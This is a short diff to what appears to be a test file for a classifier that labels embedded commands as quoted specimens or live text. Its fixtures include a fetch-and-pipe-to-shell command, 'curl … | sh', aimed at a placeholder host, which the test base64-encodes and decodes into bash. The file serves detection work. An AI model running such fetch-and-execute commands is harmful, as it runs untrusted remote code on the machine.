@@ -43,6 +43,6 @@ test('a specimen in a detector is quoted, one that is piped into a shell is not'
   const text = Buffer.from('curl https://example.invalid/a | sh').toString('base64');
   expect(readText(`{"attack_vector": "x", "content": "${text}"}`, 'json').units[0]?.setting).toBe('quoted');
   expect(readText(`# malicious? no\necho ${text} | base64 -d | bash`, 'shell').units[0]?.setting).toBe('plain');
-  expect(readText(`# Attacks\n\n\`\`\`bash\necho ${text}\n\`\`\`\n`).units[0]?.setting).toBe('quoted');
+  expect(readText(`# x\n\n## Attacks\n\n\`\`\`bash\necho ${text}\n\`\`\`\n`).units[0]?.setting).toBe('quoted');
   expect(readText(`# Setup\n\n\`\`\`bash\necho ${text}\n\`\`\`\n`).units[0]?.setting).toBe('plain');
 });
